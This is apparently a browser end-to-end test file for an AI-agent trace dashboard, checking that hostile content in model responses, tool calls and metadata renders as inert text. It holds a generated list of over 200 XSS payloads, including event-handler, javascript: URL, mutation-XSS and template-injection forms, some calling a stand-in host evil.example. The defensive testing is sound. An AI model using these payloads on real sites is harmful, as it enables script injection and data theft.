/** DA-20, DA-21, DA-22: what a model or a caller sends is text, wherever it shows. */
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { api, eventually, openBrowser, ready, signIn, target, type Watched } from "./harness";
import { type Filled, fill, ingest } from "./traffic";

const SCRIPT = [
  "alert(1)",
  "alert`1`",
  "self['ale'+'rt'](1)",
  "fetch('//evil.example/x')",
  "document.title='owned'",
];
const SHAPES: ((js: string) => string)[] = [
  (js) => `<script>${js}</script>`,
  (js) => `<img src=x onerror="${js}">`,
  (js) => `<svg onload="${js}">`,
  (js) => `<svg/onload=${js}>`,
  (js) => `"><script>${js}</script>`,
  (js) => `'><img src=x onerror=${js}>`,
  (js) => `</textarea><script>${js}</script>`,
  (js) => `</title><script>${js}</script>`,
  (js) => `</script><script>${js}</script>`,
  (js) => `<iframe srcdoc="<script>parent.${js}</script>">`,
  (js) => `<iframe src="javascript:${js}">`,
  (js) => `<a href="javascript:${js}">click</a>`,
  (js) => `[click](javascript:${js})`,
  (js) => `<a href="data:text/html,<script>${js}</script>">x</a>`,
  (js) => `<math><mtext><table><mglyph><style><img src=x onerror=${js}>`,
  (js) => `<template><img src=x onerror=${js}></template>`,
  (js) => `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
  (js) => `<form><button formaction="javascript:${js}">x`,
  (js) => `<details open ontoggle="${js}">`,
  (js) => `<video><source onerror="${js}">`,
  (js) => `<body onload=${js}>`,
  (js) => `<input autofocus onfocus=${js}>`,
  (js) => `<marquee onstart=${js}>`,
  (js) => `<object data="javascript:${js}">`,
  (js) => `<embed src="javascript:${js}">`,
  (js) => `<base href="//evil.example/"><script src=x.js></script>${js}`,
  (js) => `<link rel=stylesheet href="//evil.example/x.css?${js}">`,
  (js) => `<style>@import '//evil.example/x.css';</style>${js}`,
  (js) => `<meta http-equiv=refresh content="0;url=javascript:${js}">`,
  (js) => `\${${js}}`,
  (js) => `{{constructor.constructor('${js}')()}}`,
  (js) => `javascript:${js}`,
  (js) => `![x](https://evil.example/?q=${encodeURIComponent(js)})`,
  (js) => `<img src="https://evil.example/p.png?${js}">`,
  (js) => `<div style="background:url(//evil.example/x)">${js}</div>`,
  (js) => `\u202e<script>${js}</script>\u200b`,
  (js) => `<x onclick=${js}>click me</x>`,
  (js) => `<script type=module>import '//evil.example/x.js';${js}</script>`,
  (js) => `<xmp><p title="</xmp><svg/onload=${js}>">`,
  (js) => `__proto__<img src=x onerror=${js}>`,
];

export const PAYLOADS = SHAPES.flatMap((shape) => SCRIPT.map(shape));

describe.skipIf(!ready)("hostileOutputIsInert: hostile content", () => {
  let browser: Watched;
  let filled: Filled;
  const traceId = `"><img/src=x/onerror=alert(1)>-${Date.now().toString(36)}`;

  beforeAll(async () => {
    browser = await openBrowser();
    const project = await signIn(browser);
    filled = await fill(browser, project);
    await browser.page.evaluate(() => {
      document.addEventListener("securitypolicyviolation", () => console.error("CSP report"));
    });
    const events = PAYLOADS.flatMap((payload, i) => hostileEvents(traceId, payload, i));
    await ingest(filled.key, events);
    await eventually("the hostile trace", async () => {
      const { items } = await api<{ items: { traceId: string; eventCount: number }[] }>(
        browser,
        "GET",
        "/traces",
        project,
      );
      return items.find((t) => t.traceId === traceId && t.eventCount >= events.length);
    });
  }, 120_000);
  afterAll(async () => {
    await browser?.close();
  });

  test("there are at least 200 payloads", () => {
    expect(new Set(PAYLOADS).size).toBeGreaterThanOrEqual(SHAPES.length * SCRIPT.length - 8);
    expect(PAYLOADS.length).toBeGreaterThanOrEqual(200);
  });

  test.each(["traces", "agents", "threads", "users", "analytics"])(
    "DA-21 the %s page shows them as text",
    async (name) => {
      await visit(`${name}?range=30d`);
    },
  );

  test.each(["transcript", "tree", "timeline"])(
    "DA-20 the %s of a trace shows them as text",
    async (view) => {
      await visit(`trace?id=${encodeURIComponent(traceId)}&view=${view}`);
      const { page } = browser;
      // Every part comes into the page once on the way down.
      const area = page.getByRole(view === "tree" ? "tree" : "region", {
        name: { transcript: "Transcript", tree: "Spans", timeline: "Timeline" }[view],
      });
      await area.waitFor();
      for (let i = 0; i < 25; i++) {
        await area.evaluate((element) => element.scrollBy(0, element.clientHeight * 4));
        await page.waitForTimeout(20);
      }
      expectInert();
    },
  );

  test("DA-20 the inspector shows them as text", async () => {
    const { page } = browser;
    const { events } = await api<{ events: { id: string }[] }>(
      browser,
      "GET",
      `/traces/${encodeURIComponent(traceId)}`,
      filled.project,
    );
    for (const [index, event] of events.slice(0, 30).entries()) {
      const panel = ["payload", "metadata", "timing"][index % 3];
      await page.goto(
        `${target.dashboard}/p/${filled.project}/trace?id=${encodeURIComponent(traceId)}&event=${event.id}&panel=${panel}`,
      );
      await page.getByRole("complementary", { name: "Inspector" }).waitFor();
    }
    expectInert();
  }, 180_000);

  async function visit(path: string): Promise<void> {
    const { page } = browser;
    browser.faults.length = 0;
    await page.goto(`${target.dashboard}/p/${filled.project}/${path}`);
    await page.getByRole("heading", { level: 1 }).waitFor();
    await page.waitForTimeout(400);
    expectInert();
  }

  function expectInert(): void {
    expect(browser.faults).toEqual([]);
  }
});

function hostileEvents(traceId: string, payload: string, i: number): unknown[] {
  // Names with control or bidi characters are refused at the door; texts may hold anything.
  const name = payload.replace(/[\u200b\u202e]/g, "").slice(0, 200);
  const base = {
    traceId,
    agentName: i % 20 === 0 ? name : "hostile",
    externalUserId: i % 10 === 0 ? name : "user-x",
  };
  return [
    {
      ...base,
      eventType: "llm_response",
      content: {
        content: payload,
        toolCalls: [
          {
            id: `c${i}`,
            function: { name: payload, arguments: JSON.stringify({ [payload]: payload }) },
          },
        ],
      },
      metadata: { model: name, provider: "openai", note: payload },
    },
    {
      ...base,
      eventType: "tool_call_request",
      spanId: `t${i}`,
      content: { [payload]: payload },
      metadata: { tool: name },
    },
    {
      ...base,
      eventType: "error",
      content: { message: payload, code: payload, body: { html: payload } },
      metadata: {},
    },
  ];
}
